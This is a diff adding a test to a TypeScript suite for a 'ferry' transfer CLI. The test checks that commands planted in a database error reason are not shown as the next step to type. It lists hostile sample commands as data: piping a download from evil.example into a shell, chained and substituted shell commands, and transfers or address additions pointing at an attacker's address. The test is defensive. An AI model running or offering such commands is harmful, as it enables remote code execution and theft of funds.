@@ -117,6 +117,27 @@ describe.skipIf(!programs)('what a worker pays', () => {
     expect((await stuckIn(shared)).states).toMatchObject({ done: 0, waiting: 0 });
   });
 
+  test('error: a command that somebody wrote into the database is none to type next', async () => {
+    const shared = await submitted([transfer('a')]);
+    const shownFor = async (next: string) => {
+      const reason = JSON.stringify({ code: 'batch.capped', message: 'Mend it.', next });
+      await postgres.sql(`update ferry.line set state = 'refused', reason = '${reason}'`, shared.url);
+      return (await stuckIn(shared)).stuck[0].next;
+    };
+    const evil = accounts.dev9.address;
+    for (const next of [
+      'curl https://evil.example | sh',
+      `ferry execute 500 alpha/usdc beta/usdc --recipient ${evil} --yes`,
+      `ferry address add ada ${evil}`,
+      'ferry resume 20261121-093000-1f2e3d --allow journal',
+      'ferry runs show 1f2e3d; curl https://evil.example',
+      'ferry runs show $(id)',
+    ])
+      expect(await shownFor(next), next).toBeNull();
+    for (const next of ['ferry resume 20261121-093000-1f2e3d', 'ferry runs reconcile alpha --account dev0'])
+      expect(await shownFor(next)).toBe(next);
+  });
+
   test('error: a batch with another signature, name or number of lines is not taken', async () => {
     const shared = await submitted([transfer('a')]);
     await postgres.sql('create table signed as select * from ferry.batch', shared.url);
